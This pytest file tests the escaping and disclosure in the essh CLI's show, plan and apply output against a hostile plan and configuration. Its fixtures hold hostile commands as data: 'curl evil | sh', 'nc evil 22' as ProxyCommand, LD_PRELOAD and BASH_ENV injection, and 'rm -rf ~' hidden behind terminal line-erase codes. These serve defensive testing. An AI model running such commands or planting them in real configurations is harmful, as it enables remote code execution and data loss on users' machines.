"""The review shows exactly what runs, escaped: read as an attacker who wrote the
configuration or the plan file and wants something to run that the reader of
`essh show` / `essh plan` / the `apply TASK` prompt does not see."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_workspace import Workspace, one_error_line, with_terminal

from essh import schema

ERASE = "\x1b[2K\r"  # erase the line, back to its start: what follows hides what came before


def _unsafe(text: str) -> list[str]:
    """Characters a terminal would act on: everything but printable text, tab and newline."""
    return [c for c in text if not (c.isprintable() or c in "\t\n")]


def _hostile_plan() -> schema.Plan:
    host = schema.Host(
        name="web" + ERASE + "db",
        ssh_options=(
            ("HostName", "10.0.0.1"),
            ("KnownHostsCommand", "/bin/sh -c 'touch pwned'"),
            ("LocalCommand", "curl evil | sh"),
            ("Match", "exec 'touch pwned'"),
            ("PermitLocalCommand", "yes"),
            ("ProxyCommand", "nc evil 22"),
            ("ProxyJump", "evil.example"),
            ("User", "deploy"),
        ),
        env=(("ESSH_HOSTNAME", "web"), ("LD_PRELOAD", "/tmp/evil.so")),
    )
    wrapped = schema.Task(
        name="deploy\u202e",
        description="harmless" + ERASE + "text",
        shell=("sh", "-c", "curl evil | sh", "--"),
        run_as="root",
        env=(("ESSH_TASK_NAME", "deploy"), ("BASH_ENV", "/tmp/evil.rc")),
    )
    plain = schema.Task(name="plain", backend="local", after=(0,))
    return schema.Plan(
        meta=schema.PlanMeta(essh_version="0.1.0", created_at=0, lua_version="Lua 5.4", warnings=("w" + ERASE,)),
        hosts=(host,),
        tasks=(wrapped, plain),
        scripts=("echo ok\nrm -rf ~ " + ERASE + "# tidy up\n", "echo plain\n"),
        steps=(schema.Step(0, 0, 0), schema.Step(1, None, 1)),
    )


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "plan.bin"
    schema.write_plan(str(path), _hostile_plan())
    return path


def test_show_escapes_every_text_from_the_plan(ws: Workspace, hostile):
    for args in (("show", str(hostile)), ("show", "--verbose", str(hostile))):
        result = ws.essh(*args)
        assert result.returncode == 0, result.stderr
        assert _unsafe(result.stdout) == []
        out = result.stdout
        assert "rm -rf ~ \\x1b[2K\\r# tidy up" in out
        assert "description: harmless\\x1b[2K\\rtext" in out
        assert "# deploy\\u202e" in out and "web\\x1b[2K\\rdb" in out and "warning: w\\x1b[2K\\r" in out


def test_show_without_verbose_still_shows_whatever_runs_something(ws: Workspace, hostile):
    out = ws.essh("show", str(hostile)).stdout
    host = "web\\x1b[2K\\rdb"
    for line in (
        f"{host}: KnownHostsCommand=/bin/sh -c 'touch pwned'",
        f"{host}: LocalCommand=curl evil | sh",
        f"{host}: Match=exec 'touch pwned'",
        f"{host}: PermitLocalCommand=yes",
        f"{host}: ProxyCommand=nc evil 22",
        f"{host}: ProxyJump=evil.example",
        "1 host also set HostName, User (--verbose shows every host's options and environment)",
        "command: sudo -n -u root -H -- sh -c 'curl evil | sh' -- BOOTSTRAP (--verbose shows it)",
        "env: ESSH_TASK_NAME, BASH_ENV (--verbose shows the values)",
        "host env: ESSH_HOSTNAME, LD_PRELOAD",
    ):
        assert f"    {line}\n" in out, line
    plain = out[out.index("# plain"):]
    assert "command:" not in plain  # the default `bash -c` bootstrap is not worth a line
    assert "/tmp/evil.so" not in out  # values are --verbose's


def test_verbose_shows_every_value_and_the_exact_command(ws: Workspace, hostile):
    out = ws.essh("show", "--verbose", str(hostile)).stdout
    assert "env: ESSH_HOSTNAME=web LD_PRELOAD=/tmp/evil.so" in out
    assert "ProxyCommand=nc evil 22" in out and "HostName=10.0.0.1" in out
    assert "$ sudo -n -u root -H -- sh -c 'curl evil | sh' -- '[ -n \"${BASH_VERSION-}\" ]" in out
    assert "| export BASH_ENV=/tmp/evil.rc" in out


def test_the_json_form_escapes_invisible_characters_and_keeps_the_text(ws: Workspace, hostile):
    result = ws.essh("show", "--json", str(hostile))
    assert result.returncode == 0, result.stderr
    assert _unsafe(result.stdout) == []
    assert "deploy\\u202e" in result.stdout
    doc = json.loads(result.stdout)
    assert doc["tasks"][0]["name"] == "deploy\u202e" and doc["scripts"][0].endswith(ERASE + "# tidy up\n")


CONFIG = (
    'host "lab" { HostName = "10.0.0.9", ProxyCommand = "ssh -W %h:%p jump", description = "d\\27[2K\\rok",'
    ' tags = { "t\\27x" } }\n'
    'task "t" { targets = "lab", privileged = true, description = "n\\226\\128\\174ice",'
    ' env = { LD_PRELOAD = "/tmp/x.so" }, script = "echo safe\\nrm -rf /tmp/x \\27[2K\\r# comment" }\n'
)


def test_plan_hosts_tasks_tags_escape_configuration_text(ws: Workspace):
    ws.write(".esshconfig.lua", CONFIG)
    for args in (("plan", "t"), ("plan", "t", "--verbose"), ("hosts",), ("hosts", "--ssh-config"), ("tasks",), ("tags",), ("validate",)):
        result = ws.essh(*args)
        assert result.returncode == 0, (args, result.stderr)
        assert _unsafe(result.stdout) == [], args
    assert "rm -rf /tmp/x \\x1b[2K\\r# comment" in ws.essh("plan", "t").stdout
    assert "d\\x1b[2K\\rok" in ws.essh("hosts").stdout
    assert "n\\u202eice" in ws.essh("tasks").stdout
    assert ws.essh("tags").stdout == "t\\x1bx\n"


def test_the_apply_prompt_shows_what_would_run_and_no_is_exit_1(ws: Workspace):
    ws.write(".esshconfig.lua", CONFIG)
    code, screen = with_terminal(ws, b"no\n", "apply", "t")
    assert code == 1, screen
    assert "lab: ProxyCommand=ssh -W %h:%p jump" in screen
    assert "command: sudo -n -u root -H -- bash -l -c BOOTSTRAP" in screen
    assert "env: ESSH_TASK_NAME, LD_PRELOAD" in screen
    assert "\x1b[2K" not in screen and "Apply cancelled." in screen


def test_error_lines_are_escaped(ws: Workspace):
    result = ws.essh("show", "no" + ERASE + "such.bin")
    assert result.returncode == 2
    assert one_error_line(result) == "essh: cannot read plan file no\\x1b[2K\\rsuch.bin: No such file or directory"
